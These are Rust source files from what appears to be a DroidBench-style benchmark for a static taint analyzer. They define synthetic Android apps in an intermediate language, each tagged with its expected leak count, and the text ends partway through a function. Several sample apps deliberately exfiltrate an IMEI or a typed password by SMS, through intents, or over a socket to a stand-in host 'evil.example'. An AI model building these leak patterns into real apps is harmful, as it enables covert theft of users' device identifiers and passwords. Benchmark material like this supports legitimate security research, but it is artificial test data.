/// Like PrivateDataLeak1, but the password is obfuscated character by
/// character before the leak (primitive tracking through the loop).
fn private_data_leak2() -> BenchApp {
    let code = r#"
class dbench.pdl2.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/main)
    return
  }
  method sendIt(v: android.view.View) -> void {
    let w: android.view.View
    let p: java.lang.String
    let obf: java.lang.String
    let chars: char[]
    let i: int
    let n: int
    let c: char
    let sms: android.telephony.SmsManager
    w = virtualinvoke this.<android.app.Activity: android.view.View findViewById(int)>(@id/pwdString)
    p = virtualinvoke w.<java.lang.Object: java.lang.String toString()>()
    chars = virtualinvoke p.<java.lang.String: char[] toCharArray()>()
    obf = ""
    n = lengthof chars
    i = 0
  label top:
    if i >= n goto done
    c = chars[i]
    obf = obf + c
    obf = obf + "_"
    i = i + 1
    goto top
  label done:
    sms = staticinvoke <android.telephony.SmsManager: android.telephony.SmsManager getDefault()>()
    virtualinvoke sms.<android.telephony.SmsManager: void sendTextMessage(java.lang.String,java.lang.String,java.lang.String,java.lang.Object,java.lang.Object)>("+44 020 7321 0905", null, obf, null, null)
    return
  }
}
"#
    .to_owned();
    BenchApp {
        name: "PrivateDataLeak2",
        category: Category::AndroidSpecific,
        in_table: true,
        expected_leaks: 1,
        description: "password obfuscated char-by-char, then sent via SMS",
        manifest: single_activity_manifest("dbench.pdl2", "Main"),
        layouts: vec![("main", PWD_LAYOUT)],
        code,
    }
}

/// The IMEI flows directly from source to sink in one method.
fn direct_leak1() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.dl1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let sms: android.telephony.SmsManager
    sms = staticinvoke <android.telephony.SmsManager: android.telephony.SmsManager getDefault()>()
    virtualinvoke sms.<android.telephony.SmsManager: void sendTextMessage(java.lang.String,java.lang.String,java.lang.String,java.lang.Object,java.lang.Object)>("+44 020 7321 0905", null, id, null, null)
    return
  }
}
"#,
    );
    BenchApp {
        name: "DirectLeak1",
        category: Category::AndroidSpecific,
        in_table: true,
        expected_leaks: 1,
        description: "IMEI sent via SMS directly in onCreate",
        manifest: single_activity_manifest("dbench.dl1", "Main"),
        layouts: vec![],
        code,
    }
}

/// A leaking activity that is disabled in the manifest — its lifecycle
/// never runs.
fn inactive_activity() -> BenchApp {
    let manifest = r#"<manifest package="dbench.ia1">
  <application>
    <activity android:name=".Main">
      <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
    </activity>
    <activity android:name=".Dormant" android:enabled="false"/>
  </application>
</manifest>"#
        .to_owned();
    let code = with_imei(
        r#"
class dbench.ia1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    return
  }
}
class dbench.ia1.Dormant extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    return
  }
}
"#,
    );
    BenchApp {
        name: "InactiveActivity",
        category: Category::AndroidSpecific,
        in_table: true,
        expected_leaks: 0,
        description: "the leaking activity is disabled in the manifest",
        manifest,
        layouts: vec![],
        code,
    }
}

/// Only constant data is logged.
fn log_no_leak() -> BenchApp {
    let code = r#"
class dbench.lnl1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let s: java.lang.String
    s = "nothing sensitive"
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", s)
    return
  }
}
"#
    .to_owned();
    BenchApp {
        name: "LogNoLeak",
        category: Category::AndroidSpecific,
        in_table: true,
        expected_leaks: 0,
        description: "only constants are logged",
        manifest: single_activity_manifest("dbench.lnl1", "Main"),
        layouts: vec![],
        code,
    }
}
