//! Supplementary apps beyond the paper's Table 1, completing the
//! advertised 39: documented limitations (implicit flows, reflection)
//! and two additional positive tests.

use super::with_imei;
use crate::{single_activity_manifest, BenchApp, Category};

pub fn apps() -> Vec<BenchApp> {
    vec![implicit_flow1(), reflection1(), casting1(), exceptions1()]
}

/// Data leaks through a control-flow dependency only. The paper
/// explicitly excludes implicit flows (footnote 1), so the expected
/// analysis result is "no leak" even though information escapes.
fn implicit_flow1() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.if1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let out: java.lang.String
    if id == null goto low
    out = "one"
    goto report
  label low:
    out = "zero"
  label report:
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", out)
    return
  }
}
"#,
    );
    BenchApp {
        name: "ImplicitFlow1",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 0,
        description: "implicit (control-dependence) flow — out of scope by design",
        manifest: single_activity_manifest("dbench.if1", "Main"),
        layouts: vec![],
        code,
    }
}

/// The sink is invoked behind a reflective dispatch stand-in that the
/// analysis cannot resolve (a phantom `java.lang.reflect.Method.invoke`
/// with no rule): a documented limitation.
fn reflection1() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.refl1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let m: java.lang.reflect.Method
    m = staticinvoke <dbench.refl1.Main: java.lang.reflect.Method lookup(java.lang.String)>("leak")
    virtualinvoke m.<java.lang.reflect.Method: java.lang.Object invoke(java.lang.Object,java.lang.String)>(this, id)
    return
  }
  native static method lookup(name: java.lang.String) -> java.lang.reflect.Method
  method leak(s: java.lang.String) -> void {
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", s)
    return
  }
}
"#,
    );
    BenchApp {
        name: "Reflection1",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 1,
        description: "reflective call to the leaking method (documented limitation: missed)",
        manifest: single_activity_manifest("dbench.refl1", "Main"),
        layouts: vec![],
        code,
    }
}

/// Taint survives an up- and down-cast chain.
fn casting1() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.cast1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let ob: java.lang.Object
    let s: java.lang.String
    ob = (java.lang.Object) id
    s = (java.lang.String) ob
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", s)
    return
  }
}
"#,
    );
    BenchApp {
        name: "Casting1",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 1,
        description: "taint through reference casts",
        manifest: single_activity_manifest("dbench.cast1", "Main"),
        layouts: vec![],
        code,
    }
}

/// The leak happens on the path leading to a thrown exception; the
/// coarse exceptional-flow model still sees the sink call before the
/// throw.
fn exceptions1() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.exc1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let e: java.lang.Object
    if opaque goto boom
    return
  label boom:
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    e = new java.lang.RuntimeException
    throw e
  }
}
"#,
    );
    BenchApp {
        name: "Exceptions1",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 1,
        description: "leak on a path ending in a throw",
        manifest: single_activity_manifest("dbench.exc1", "Main"),
        layouts: vec![],
        code,
    }
}
