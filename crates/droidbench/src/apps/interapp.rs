//! Inter-App Communication: intent-based flows. The paper's model
//! treats intent *sending* as a sink and intent *reception* as a source
//! (§5); `setResult` is neither, which makes IntentSink1 a documented
//! miss.

use super::with_imei;
use crate::{single_activity_manifest, BenchApp, Category};

pub fn apps() -> Vec<BenchApp> {
    vec![intent_sink1(), intent_sink2(), activity_communication1()]
}

/// Tainted data is stored in an intent handed back via `setResult`; the
/// framework forwards it to the calling activity. A real leak that the
/// sink model cannot see.
fn intent_sink1() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.isnk1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let i: android.content.Intent
    i = new android.content.Intent
    specialinvoke i.<android.content.Intent: void <init>()>()
    virtualinvoke i.<android.content.Intent: android.content.Intent putExtra(java.lang.String,java.lang.String)>("imei", id)
    virtualinvoke this.<android.app.Activity: void setResult(int,android.content.Intent)>(0, i)
    virtualinvoke this.<android.app.Activity: void finish()>()
    return
  }
}
"#,
    );
    BenchApp {
        name: "IntentSink1",
        category: Category::InterAppCommunication,
        in_table: true,
        expected_leaks: 1,
        description: "tainted intent returned via setResult (documented FlowDroid miss)",
        manifest: single_activity_manifest("dbench.isnk1", "Main"),
        layouts: vec![],
        code,
    }
}

/// Tainted data in an intent that is explicitly started — the send is a
/// sink.
fn intent_sink2() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.isnk2.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let i: android.content.Intent
    i = new android.content.Intent
    specialinvoke i.<android.content.Intent: void <init>()>()
    virtualinvoke i.<android.content.Intent: android.content.Intent putExtra(java.lang.String,java.lang.String)>("imei", id)
    virtualinvoke this.<android.content.Context: void startActivity(android.content.Intent)>(i)
    return
  }
}
"#,
    );
    BenchApp {
        name: "IntentSink2",
        category: Category::InterAppCommunication,
        in_table: true,
        expected_leaks: 1,
        description: "tainted intent sent via startActivity",
        manifest: single_activity_manifest("dbench.isnk2", "Main"),
        layouts: vec![],
        code,
    }
}

/// Two activities: the first broadcasts the IMEI inside an intent, the
/// second would receive it. The send is the reported sink.
fn activity_communication1() -> BenchApp {
    let manifest = r#"<manifest package="dbench.ac1">
  <application>
    <activity android:name=".Sender">
      <intent-filter><action android:name="android.intent.action.MAIN"/></intent-filter>
    </activity>
    <activity android:name=".Receiver"/>
  </application>
</manifest>"#
        .to_owned();
    let code = with_imei(
        r#"
class dbench.ac1.Sender extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let i: android.content.Intent
    i = new android.content.Intent
    specialinvoke i.<android.content.Intent: void <init>()>()
    virtualinvoke i.<android.content.Intent: android.content.Intent putExtra(java.lang.String,java.lang.String)>("secret", id)
    virtualinvoke this.<android.content.Context: void startActivity(android.content.Intent)>(i)
    return
  }
}
class dbench.ac1.Receiver extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let i: android.content.Intent
    let s: java.lang.String
    i = virtualinvoke this.<android.app.Activity: android.content.Intent getIntent()>()
    s = virtualinvoke i.<android.content.Intent: java.lang.String getStringExtra(java.lang.String)>("secret")
    virtualinvoke this.<android.widget.TextView: void setText(java.lang.String)>(s)
    return
  }
}
"#,
    );
    BenchApp {
        name: "ActivityCommunication1",
        category: Category::InterAppCommunication,
        in_table: true,
        expected_leaks: 1,
        description: "IMEI flows between activities through an intent; the send is the sink",
        manifest,
        layouts: vec![],
        code,
    }
}
