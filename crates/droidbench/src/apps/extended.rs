//! Extended suite (beyond Table 1): apps exercising mechanisms the
//! paper describes but the 35 table apps touch only lightly — chained
//! callback registration (the §3 fixed point), bound services, content
//! providers, receivers forwarding received data, and multi-hop
//! private-data exfiltration.

use super::with_imei;
use crate::{single_activity_manifest, BenchApp, Category};

pub fn apps() -> Vec<BenchApp> {
    vec![
        callback_chain1(),
        intent_source1(),
        service_bound1(),
        provider_query1(),
        private_data_leak3(),
        unregistered_component(),
    ]
}

/// A callback handler registers *another* callback whose handler leaks —
/// exactly the case §3 gives for iterating discovery to a fixed point
/// ("callback handlers are free to register new callbacks on their
/// own").
fn callback_chain1() -> BenchApp {
    let code = r#"
class dbext.cc1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    let v: android.view.View
    let l1: dbext.cc1.First
    v = virtualinvoke this.<android.app.Activity: android.view.View findViewById(int)>(1000)
    l1 = new dbext.cc1.First
    specialinvoke l1.<dbext.cc1.First: void <init>()>()
    virtualinvoke v.<android.view.View: void setOnClickListener(android.view.View$OnClickListener)>(l1)
    return
  }
}
class dbext.cc1.First extends java.lang.Object implements android.view.View$OnClickListener {
  method <init>() -> void {
    return
  }
  method onClick(v: android.view.View) -> void {
    let l2: dbext.cc1.Second
    l2 = new dbext.cc1.Second
    specialinvoke l2.<dbext.cc1.Second: void <init>()>()
    virtualinvoke v.<android.view.View: void setOnLongClickListener(android.view.View$OnLongClickListener)>(l2)
    return
  }
}
class dbext.cc1.Second extends java.lang.Object implements android.view.View$OnLongClickListener {
  method <init>() -> void {
    return
  }
  method onLongClick(v: android.view.View) -> boolean {
    let o: java.lang.Object
    let tm: android.telephony.TelephonyManager
    let id: java.lang.String
    let ctx: android.content.Context
    o = null
    tm = (android.telephony.TelephonyManager) o
    id = virtualinvoke tm.<android.telephony.TelephonyManager: java.lang.String getDeviceId()>()
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    return 0
  }
}
"#
    .to_owned();
    BenchApp {
        name: "CallbackChain1",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 1,
        description: "a callback registers another callback whose handler leaks (fixed-point discovery)",
        manifest: single_activity_manifest("dbext.cc1", "Main"),
        layouts: vec![],
        code,
    }
}

/// A broadcast receiver forwards the data it receives via SMS — both a
/// parameter source and an exfiltration sink.
fn intent_source1() -> BenchApp {
    let manifest = r#"<manifest package="dbext.is1">
  <application>
    <receiver android:name=".Fwd" android:exported="true"/>
  </application>
</manifest>"#
        .to_owned();
    let code = r#"
class dbext.is1.Fwd extends android.content.BroadcastReceiver {
  method onReceive(c: android.content.Context, i: android.content.Intent) -> void {
    let s: java.lang.String
    let sms: android.telephony.SmsManager
    s = virtualinvoke i.<android.content.Intent: java.lang.String getStringExtra(java.lang.String)>("payload")
    sms = staticinvoke <android.telephony.SmsManager: android.telephony.SmsManager getDefault()>()
    virtualinvoke sms.<android.telephony.SmsManager: void sendTextMessage(java.lang.String,java.lang.String,java.lang.String,java.lang.Object,java.lang.Object)>("+prem", null, s, null, null)
    return
  }
}
"#
    .to_owned();
    BenchApp {
        name: "IntentSource1",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 1,
        description: "receiver forwards received intent data via SMS (the paper's malware pattern)",
        manifest,
        layouts: vec![],
        code,
    }
}

/// A bound service acquires the IMEI in onBind and leaks it in
/// onDestroy.
fn service_bound1() -> BenchApp {
    let manifest = r#"<manifest package="dbext.sb1">
  <application>
    <service android:name=".Bound"/>
  </application>
</manifest>"#
        .to_owned();
    let code = with_imei(
        r#"
class dbext.sb1.Bound extends android.app.Service {
  field im: java.lang.String
  method onBind(i: android.content.Intent) -> java.lang.Object {
"#,
        r#"    this.im = id
    return null
  }
  method onDestroy() -> void {
    let t: java.lang.String
    t = this.im
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    BenchApp {
        name: "ServiceBound1",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 1,
        description: "bound service stores the IMEI in onBind, leaks in onDestroy",
        manifest,
        layouts: vec![],
        code,
    }
}

/// A content provider leaks the IMEI when queried.
fn provider_query1() -> BenchApp {
    let manifest = r#"<manifest package="dbext.pq1">
  <application>
    <provider android:name=".Store"/>
  </application>
</manifest>"#
        .to_owned();
    let code = with_imei(
        r#"
class dbext.pq1.Store extends android.content.ContentProvider {
  method query(sel: java.lang.String) -> java.lang.Object {
"#,
        r#"    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    return null
  }
}
"#,
    );
    BenchApp {
        name: "ProviderQuery1",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 1,
        description: "content provider leaks on query",
        manifest,
        layouts: vec![],
        code,
    }
}

/// The password travels through two helper classes before reaching a
/// raw socket — a deeper multi-hop variant of PrivateDataLeak.
fn private_data_leak3() -> BenchApp {
    let layout = r#"<L><EditText android:id="@+id/pwd" android:inputType="textPassword"/>
<Button android:id="@+id/go" android:onClick="exfil"/></L>"#;
    let code = r#"
class dbext.pdl3.Codec extends java.lang.Object {
  method <init>() -> void {
    return
  }
  method wrap(x: java.lang.String) -> java.lang.String {
    let r: java.lang.String
    r = "[" + x
    r = r + "]"
    return r
  }
}
class dbext.pdl3.Uploader extends java.lang.Object {
  method <init>() -> void {
    return
  }
  method send(x: java.lang.String) -> void {
    let sock: java.net.Socket
    let os: java.io.OutputStream
    sock = new java.net.Socket
    specialinvoke sock.<java.net.Socket: void <init>(java.lang.String,int)>("evil.example", 443)
    os = virtualinvoke sock.<java.net.Socket: java.io.OutputStream getOutputStream()>()
    virtualinvoke os.<java.io.OutputStream: void write(java.lang.String)>(x)
    return
  }
}
class dbext.pdl3.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    virtualinvoke this.<android.app.Activity: void setContentView(int)>(@layout/main)
    return
  }
  method exfil(v: android.view.View) -> void {
    let w: android.view.View
    let p: java.lang.String
    let c: dbext.pdl3.Codec
    let u: dbext.pdl3.Uploader
    w = virtualinvoke this.<android.app.Activity: android.view.View findViewById(int)>(@id/pwd)
    p = virtualinvoke w.<android.widget.TextView: java.lang.String getText()>()
    c = new dbext.pdl3.Codec
    specialinvoke c.<dbext.pdl3.Codec: void <init>()>()
    p = virtualinvoke c.<dbext.pdl3.Codec: java.lang.String wrap(java.lang.String)>(p)
    u = new dbext.pdl3.Uploader
    specialinvoke u.<dbext.pdl3.Uploader: void <init>()>()
    virtualinvoke u.<dbext.pdl3.Uploader: void send(java.lang.String)>(p)
    return
  }
}
"#
    .to_owned();
    BenchApp {
        name: "PrivateDataLeak3",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 1,
        description: "password through two helper classes to a raw socket",
        manifest: single_activity_manifest("dbext.pdl3", "Main"),
        layouts: vec![("main", layout)],
        code,
    }
}

/// A leaking activity class exists in the code but is never declared in
/// the manifest — it has no lifecycle and must not be analyzed.
fn unregistered_component() -> BenchApp {
    let code = with_imei(
        r#"
class dbext.uc1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
    return
  }
}
class dbext.uc1.Ghost extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
    return
  }
}
"#,
    );
    BenchApp {
        name: "UnregisteredComponent",
        category: Category::Supplementary,
        in_table: false,
        expected_leaks: 0,
        description: "leaking activity absent from the manifest never runs",
        manifest: single_activity_manifest("dbext.uc1", "Main"),
        layouts: vec![],
        code,
    }
}
