//! Arrays and Lists: index-sensitivity tests. None of these apps
//! actually leaks; all three are known FlowDroid false positives
//! (conservative, index-insensitive array/collection handling —
//! paper §6.1).

use super::with_imei;
use crate::{single_activity_manifest, BenchApp, Category};

pub fn apps() -> Vec<BenchApp> {
    vec![array_access1(), array_access2(), list_access1()]
}

/// Tainted data stored at index 1; index 0 (clean) is leaked.
fn array_access1() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.arr1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let a: java.lang.String[]
    let t: java.lang.String
    a = newarray java.lang.String[2]
    a[0] = "no taint"
    a[1] = id
    t = a[0]
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    BenchApp {
        name: "ArrayAccess1",
        category: Category::ArraysAndLists,
        in_table: true,
        expected_leaks: 0,
        description: "tainted value at constant index 1, clean index 0 leaked",
        manifest: single_activity_manifest("dbench.arr1", "Main"),
        layouts: vec![],
        code,
    }
}

/// Like ArrayAccess1, but the leaked index is computed.
fn array_access2() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.arr2.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let a: java.lang.String[]
    let t: java.lang.String
    let i: int
    a = newarray java.lang.String[3]
    a[0] = "no taint"
    a[2] = id
    i = 2 * 2
    i = i - 4
    t = a[i]
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    BenchApp {
        name: "ArrayAccess2",
        category: Category::ArraysAndLists,
        in_table: true,
        expected_leaks: 0,
        description: "tainted value at constant index, computed clean index leaked",
        manifest: single_activity_manifest("dbench.arr2", "Main"),
        layouts: vec![],
        code,
    }
}

/// A clean list element is leaked while another element is tainted.
fn list_access1() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.list1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let l: java.util.ArrayList
    let e: java.lang.Object
    let t: java.lang.String
    l = new java.util.ArrayList
    specialinvoke l.<java.util.ArrayList: void <init>()>()
    virtualinvoke l.<java.util.ArrayList: boolean add(java.lang.Object)>("plain")
    virtualinvoke l.<java.util.ArrayList: boolean add(java.lang.Object)>(id)
    e = virtualinvoke l.<java.util.ArrayList: java.lang.Object get(int)>(0)
    t = virtualinvoke e.<java.lang.Object: java.lang.String toString()>()
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    BenchApp {
        name: "ListAccess1",
        category: Category::ArraysAndLists,
        in_table: true,
        expected_leaks: 0,
        description: "clean list element leaked while another element is tainted",
        manifest: single_activity_manifest("dbench.list1", "Main"),
        layouts: vec![],
        code,
    }
}

