//! General Java: loops, branches, static initializers, unreachable
//! code.

use super::with_imei;
use crate::{single_activity_manifest, BenchApp, Category};

pub fn apps() -> Vec<BenchApp> {
    vec![
        loop1(),
        loop2(),
        source_code_specific1(),
        static_initialization1(),
        unreachable_code(),
    ]
}

/// The IMEI is obfuscated in a counted loop before the leak.
fn loop1() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.loop1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let acc: java.lang.String
    let i: int
    acc = ""
    i = 0
  label top:
    if i >= 10 goto done
    acc = acc + id
    i = i + 1
    goto top
  label done:
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", acc)
    return
  }
}
"#,
    );
    BenchApp {
        name: "Loop1",
        category: Category::GeneralJava,
        in_table: true,
        expected_leaks: 1,
        description: "taint accumulated through a counted loop",
        manifest: single_activity_manifest("dbench.loop1", "Main"),
        layouts: vec![],
        code,
    }
}

/// The IMEI is copied character-wise via a char array (primitive
/// tracking, paper §2 "must track primitives").
fn loop2() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.loop2.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let chars: char[]
    let i: int
    let n: int
    let c: char
    let acc: java.lang.String
    chars = virtualinvoke id.<java.lang.String: char[] toCharArray()>()
    acc = ""
    n = lengthof chars
    i = 0
  label top:
    if i >= n goto done
    c = chars[i]
    acc = acc + c
    i = i + 1
    goto top
  label done:
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", acc)
    return
  }
}
"#,
    );
    BenchApp {
        name: "Loop2",
        category: Category::GeneralJava,
        in_table: true,
        expected_leaks: 1,
        description: "taint carried through primitive chars in a loop",
        manifest: single_activity_manifest("dbench.loop2", "Main"),
        layouts: vec![],
        code,
    }
}

/// The leak happens on one of several branches chosen by runtime input.
fn source_code_specific1() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.scs1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    let msg: java.lang.String
    if opaque goto leak
    msg = "all quiet"
    staticinvoke <android.util.Log: int d(java.lang.String,java.lang.String)>("OK", msg)
    goto done
  label leak:
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
  label done:
    return
  }
}
"#,
    );
    BenchApp {
        name: "SourceCodeSpecific1",
        category: Category::GeneralJava,
        in_table: true,
        expected_leaks: 1,
        description: "leak guarded by a runtime branch",
        manifest: single_activity_manifest("dbench.scs1", "Main"),
        layouts: vec![],
        code,
    }
}

/// The static initializer leaks a static field that — at runtime — is
/// written *before* the class's first use. Soot (and this
/// reproduction) run `<clinit>` at program start, missing the leak: a
/// documented unsoundness.
fn static_initialization1() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.si1.Main extends android.app.Activity {
  static field im: java.lang.String
  static method <clinit>() -> void {
    let s: java.lang.String
    s = static dbench.si1.Main.im
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", s)
    return
  }
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    static dbench.si1.Main.im = id
    return
  }
}
"#,
    );
    BenchApp {
        name: "StaticInitialization1",
        category: Category::GeneralJava,
        in_table: true,
        expected_leaks: 1,
        description: "leak inside <clinit> (documented miss: clinit modeled at start)",
        manifest: single_activity_manifest("dbench.si1", "Main"),
        layouts: vec![],
        code,
    }
}

/// The sink is syntactically present but unreachable.
fn unreachable_code() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.unr1.Main extends android.app.Activity {
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    goto done
  label dead:
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", id)
  label done:
    return
  }
}
"#,
    );
    BenchApp {
        name: "UnreachableCode",
        category: Category::GeneralJava,
        in_table: true,
        expected_leaks: 0,
        description: "sink in unreachable code",
        manifest: single_activity_manifest("dbench.unr1", "Main"),
        layouts: vec![],
        code,
    }
}
