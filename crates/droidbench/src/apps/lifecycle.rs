//! Lifecycle: flows that only exist because of the Android component
//! lifecycle (paper §3). Tools without a lifecycle model miss all of
//! these.

use super::with_imei;
use crate::{single_activity_manifest, BenchApp, Category};

pub fn apps() -> Vec<BenchApp> {
    vec![
        broadcast_receiver_lifecycle1(),
        activity_lifecycle1(),
        activity_lifecycle2(),
        activity_lifecycle3(),
        activity_lifecycle4(),
        service_lifecycle1(),
    ]
}

/// A broadcast receiver leaks data from the received intent (the
/// intent parameter is a framework-delivered source).
fn broadcast_receiver_lifecycle1() -> BenchApp {
    let manifest = r#"<manifest package="dbench.brl1">
  <application>
    <receiver android:name=".Rcv" android:exported="true"/>
  </application>
</manifest>"#
        .to_owned();
    let code = r#"
class dbench.brl1.Rcv extends android.content.BroadcastReceiver {
  method onReceive(c: android.content.Context, i: android.content.Intent) -> void {
    let s: java.lang.String
    s = virtualinvoke i.<android.content.Intent: java.lang.String getStringExtra(java.lang.String)>("data")
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", s)
    return
  }
}
"#
    .to_owned();
    BenchApp {
        name: "BroadcastReceiverLifecycle1",
        category: Category::Lifecycle,
        in_table: true,
        expected_leaks: 1,
        description: "broadcast receiver leaks received intent data",
        manifest,
        layouts: vec![],
        code,
    }
}

/// Taint acquired in onCreate, leaked in onStop — requires modeling the
/// create→…→stop transition.
fn activity_lifecycle1() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.al1.Main extends android.app.Activity {
  static field im: java.lang.String
  method onCreate(b: android.os.Bundle) -> void {
"#,
        r#"    static dbench.al1.Main.im = id
    return
  }
  method onStop() -> void {
    let t: java.lang.String
    t = static dbench.al1.Main.im
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    BenchApp {
        name: "ActivityLifecycle1",
        category: Category::Lifecycle,
        in_table: true,
        expected_leaks: 1,
        description: "static field set in onCreate leaks in onStop",
        manifest: single_activity_manifest("dbench.al1", "Main"),
        layouts: vec![],
        code,
    }
}

/// Taint acquired in onRestart, leaked in onResume — only possible on
/// the restart path (stop → restart → start → resume).
fn activity_lifecycle2() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.al2.Main extends android.app.Activity {
  static field im: java.lang.String
  method onRestart() -> void {
"#,
        r#"    static dbench.al2.Main.im = id
    return
  }
  method onResume() -> void {
    let t: java.lang.String
    t = static dbench.al2.Main.im
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    BenchApp {
        name: "ActivityLifecycle2",
        category: Category::Lifecycle,
        in_table: true,
        expected_leaks: 1,
        description: "static field set in onRestart leaks in onResume (restart path)",
        manifest: single_activity_manifest("dbench.al2", "Main"),
        layouts: vec![],
        code,
    }
}

/// Taint stored in onPause, leaked in onDestroy.
fn activity_lifecycle3() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.al3.Main extends android.app.Activity {
  field im: java.lang.String
  method onPause() -> void {
"#,
        r#"    this.im = id
    return
  }
  method onDestroy() -> void {
    let t: java.lang.String
    t = this.im
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
}
"#,
    );
    BenchApp {
        name: "ActivityLifecycle3",
        category: Category::Lifecycle,
        in_table: true,
        expected_leaks: 1,
        description: "field set in onPause leaks in onDestroy",
        manifest: single_activity_manifest("dbench.al3", "Main"),
        layouts: vec![],
        code,
    }
}

/// Taint stored to a *static* field in onPause, leaked in onCreate of
/// the next lifecycle round (component repetition).
fn activity_lifecycle4() -> BenchApp {
    let code = with_imei(
        r#"
class dbench.al4.Main extends android.app.Activity {
  static field im: java.lang.String
  method onCreate(b: android.os.Bundle) -> void {
    let t: java.lang.String
    t = static dbench.al4.Main.im
    staticinvoke <android.util.Log: int i(java.lang.String,java.lang.String)>("T", t)
    return
  }
  method onPause() -> void {
"#,
        r#"    static dbench.al4.Main.im = id
    return
  }
}
"#,
    );
    BenchApp {
        name: "ActivityLifecycle4",
        category: Category::Lifecycle,
        in_table: true,
        expected_leaks: 1,
        description: "static field set in onPause leaks in onCreate of the next round",
        manifest: single_activity_manifest("dbench.al4", "Main"),
        layouts: vec![],
        code,
    }
}

/// A service stores the IMEI in onStartCommand and leaks it in
/// onDestroy.
fn service_lifecycle1() -> BenchApp {
    let manifest = r#"<manifest package="dbench.sl1">
  <application>
    <service android:name=".Work"/>
  </application>
</manifest>"#
        .to_owned();
    let code = with_imei(
        r#"
class dbench.sl1.Work extends android.app.Service {
  static field im: java.lang.String
